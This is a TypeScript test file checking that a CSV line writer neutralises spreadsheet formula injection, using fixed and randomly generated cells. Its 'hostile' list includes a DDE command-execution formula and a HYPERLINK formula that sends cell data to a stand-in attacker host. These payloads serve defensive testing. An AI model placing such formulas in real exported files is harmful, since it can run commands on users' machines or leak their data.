import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type CsvCell, csvLine } from './csv.ts'

const read = (text: string, delimiter = ','): string[][] => parse(text, { delimiter, relax_column_count: true })

/** Cells that a spreadsheet would run: a formula, also after a line break or tab. Plain numbers are safe. */
const runs = (cell: string) => /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d[\d.e+-]*$/.test(cell)

const hostile = [
  '=1+1',
  '+1+cmd',
  '-1+1|A0',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  'a,=1+1',
  'a;=1+1',
  'a; =1+1',
  'a"; =1+1;"',
  'a\r\n=1+1',
  '\uFF1D1+1',
  '""=1+1',
]
const text = fc.oneof(
  fc.constantFrom(...hostile),
  fc.string({ unit: fc.constantFrom(...'=+-@|%\t\r\n ,;"\'a1\uFF1D') }),
  fc.string({ unit: 'binary' }),
)
const cell: fc.Arbitrary<CsvCell> = fc.oneof(
  text,
  fc.double(),
  fc.constant(null),
  fc.bigInt().map((units) => ({ decimal: `${units}.25` })),
)

describe('csvLine', () => {
  it.each(hostile)('neutralizes %j', (value) => {
    const line = csvLine(['2026-01-01', value, 'end'])
    const [cells, ...rest] = read(line)
    expect(rest).toEqual([])
    expect(cells[1].replaceAll("'", '')).toBe(value)
    for (const delimiter of [',', ';', '\t']) {
      // Readers with other separators do not recognize our quotes.
      for (const part of line.split(/\r?\n|\r/).flatMap((piece) => piece.split(delimiter)))
        expect(runs(part), `${JSON.stringify(part)} by ${JSON.stringify(delimiter)}`).toBe(false)
    }
  })

  it('round-trips any cells without formulas', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { maxLength: 5 }), (rows) => {
        const file = rows.map(csvLine).join('')
        const table = read(file)
        expect(table.map((line) => line.length)).toEqual(rows.map((row) => row.length))
        for (const [line, row] of rows.entries()) {
          for (const [column, given] of row.entries()) {
            const back = table[line][column]
            if (typeof given === 'number') expect(Number(back)).toBe(given === 0 ? 0 : given)
            else if (typeof given === 'string') {
              expect(runs(back)).toBe(false)
              expect(back.replaceAll("'", '')).toBe(given.replaceAll("'", ''))
            } else expect(back).toBe(given?.decimal ?? '')
          }
        }
      }),
      { numRuns: 300 },
    )
  })

  it('keeps numbers and plain words unchanged', () => {
    expect(csvLine([1, -2.5, { decimal: '-0.05' }, 1e-7, null, 'sale', 'a b', "it's", '@acme/maze'])).toBe(
      `1,-2.5,-0.05,1e-7,,sale,"a b","it's","'@acme/maze"\r\n`,
    )
    expect(() => csvLine([{ decimal: '=1' }])).toThrow('not a decimal')
  })
})
